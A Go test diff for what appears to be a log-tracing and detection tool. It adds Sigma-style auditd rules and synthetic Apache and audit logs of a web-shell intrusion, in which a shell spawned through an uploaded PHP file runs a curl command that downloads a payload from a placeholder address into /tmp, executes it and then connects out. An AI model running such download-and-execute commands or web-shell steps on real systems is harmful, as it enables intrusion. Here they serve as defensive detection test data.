@@ -258,3 +258,100 @@ func TestALetterIsFoundByWhatItBrought(t *testing.T) {
 		})
 	}
 }
+
+// linuxRules are two of level high of a kind that everybody has for Linux.
+const linuxRules = `title: Program run from a folder for passing files
+id: 5b1f36a0-6a0f-4c43-9a0e-5f2a6b1c0001
+status: experimental
+logsource:
+    product: linux
+    service: auditd
+detection:
+    selection:
+        type: SYSCALL
+        SYSCALL: execve
+        exe|startswith: '/tmp/'
+    condition: selection
+level: high
+tags:
+    - attack.execution
+    - attack.t1059.004
+---
+title: Shell of a web server's account
+id: 5b1f36a0-6a0f-4c43-9a0e-5f2a6b1c0002
+status: experimental
+logsource:
+    product: linux
+    service: auditd
+detection:
+    selection:
+        exe|endswith: '/dash'
+        uid: '33'
+    condition: selection
+level: high
+tags:
+    - attack.persistence
+    - attack.initial-access
+    - attack.t1505.003
+`
+
+// call is an event of the audit daemon.
+func call(serial int, at float64, pid, ppid, uid int, exe string, more ...string) string {
+	number := "59"
+	if len(more) > 0 && !strings.HasPrefix(more[0], "type=EXECVE") {
+		number, more = more[0], more[1:]
+	}
+	out := fmt.Sprintf("type=SYSCALL msg=audit(%.3f:%d): arch=c000003e syscall=%s success=yes exit=0 a0=ffffff9c a1=7f00 a2=241 a3=1b6 items=2 ppid=%d pid=%d auid=4294967295 uid=%d gid=%d ses=4294967295 comm=\"x\" exe=%q key=(null)\n", at, serial, number, ppid, pid, uid, uid, exe)
+	for _, m := range more {
+		kind, rest, _ := strings.Cut(m, " ")
+		out += fmt.Sprintf("%s msg=audit(%.3f:%d): %s\n", kind, at, serial, rest)
+	}
+	return out
+}
+
+// TestLinuxAndWebLogsAlone: from a program in /tmp back to the page that was left and the requests that left it.
+func TestLinuxAndWebLogsAlone(t *testing.T) {
+	const base = 1773651600.0 // 2026-03-16 09:00:00 UTC
+	visit := func(from string, after int, method, path string, status int) string {
+		return fmt.Sprintf("%s - - [16/Mar/2026:09:%02d:%02d +0000] \"%s %s HTTP/1.1\" %d 512 \"-\" \"Mozilla/5.0\"\n", from, after/60, after%60, method, path, status)
+	}
+	access := visit("198.51.100.1", 0, "GET", "/index.php", 200) + visit("198.51.100.2", 5, "GET", "/uploads/cat.png", 200) + // 1, 2
+		visit("203.0.113.5", 58, "GET", "/.env", 404) + visit("203.0.113.5", 60, "POST", "/upload.php?a=1", 200) + // 3, 4
+		visit("203.0.113.5", 119, "POST", "/uploads/thumb.php", 200) + visit("198.51.100.3", 125, "GET", "/index.php", 200) // 5, 6
+	for i := range 40 {
+		access += visit(fmt.Sprintf("198.51.100.%d", 10+i), 180+i*7, "GET", "/index.php", 200)
+	}
+	audit := call(1, base+60.2, 500, 1, 33, "/usr/sbin/apache2", "257", `type=CWD cwd="/var/www/html"`, `type=PATH item=0 name="/var/www/html/uploads/" nametype=PARENT`, `type=PATH item=1 name="uploads/thumb.php" nametype=CREATE`) + // lines 1-4
+		call(2, base+119.5, 700, 500, 33, "/usr/bin/dash", `type=EXECVE argc=3 a0="sh" a1="-c" a2=`+fmt.Sprintf("%X", "curl -so /tmp/.k http://203.0.113.77/k")) + // 5-6
+		call(3, base+119.6, 701, 700, 33, "/usr/bin/curl", `type=EXECVE argc=4 a0="curl" a1="-so" a2="/tmp/.k" a3="http://203.0.113.77/k"`) + // 7-8
+		call(4, base+119.9, 701, 700, 33, "/usr/bin/curl", "257", `type=PATH item=0 name="/tmp/" nametype=PARENT`, `type=PATH item=1 name="/tmp/.k" nametype=CREATE`) + // 9-11
+		call(5, base+130, 702, 700, 33, "/tmp/.k", `type=EXECVE argc=1 a0="/tmp/.k"`) + // 12-13
+		call(6, base+131, 702, 700, 33, "/tmp/.k", "42", `type=SOCKADDR saddr=020001BBCB0071580000000000000000`) + // 14-15
+		call(7, base+400, 800, 1, 0, "/usr/sbin/cron", "257", `type=PATH item=0 name="/var/run/crond.pid" nametype=CREATE`) + // 16-17
+		call(8, base+500, 801, 800, 0, "/usr/bin/dash", `type=EXECVE argc=2 a0="sh" a1="/etc/cron.daily/logrotate"`) // 18-19
+	files := map[string]string{"web1/apache2/access.log": access, "web1/audit/audit.log": audit}
+	want := []string{"web1/audit/audit.log:1", "web1/audit/audit.log:5", "web1/audit/audit.log:7", "web1/audit/audit.log:9", "web1/audit/audit.log:12", "web1/audit/audit.log:14",
+		"web1/apache2/access.log:3", "web1/apache2/access.log:4", "web1/apache2/access.log:5"}
+	not := []string{"web1/apache2/access.log:1", "web1/apache2/access.log:2", "web1/apache2/access.log:6", "web1/audit/audit.log:16", "web1/audit/audit.log:18"}
+	root := lay(t, files)
+	for _, start := range []string{"web1/audit/audit.log:12", "web1/apache2/access.log:5", ""} {
+		var starts []string
+		if start != "" {
+			starts = []string{start}
+		}
+		out := follow(t, root, linuxRules, starts...)
+		t.Logf("from %q: %s; %+v; %+v", start, out.Why, out.Access, out.Unseen)
+		checkTouched(t, out, want, not)
+		if !out.Established || out.Access.Technique != "T1190" {
+			t.Errorf("from %q: established %t, %s, way in %+v", start, out.Established, out.Why, out.Access)
+		}
+		for _, place := range []string{"203.0.113.5", "203.0.113.77", "203.0.113.88"} {
+			if !slices.ContainsFunc(out.Infrastructure, func(p trail.Place) bool { return p.Value == place }) {
+				t.Errorf("from %q: %s is missing of %+v", start, place, out.Infrastructure)
+			}
+		}
+		if !slices.ContainsFunc(out.Unseen, func(s string) bool { return strings.Contains(s, "network") }) {
+			t.Errorf("from %q: that no network log was there is not said: %v", start, out.Unseen)
+		}
+	}
+}
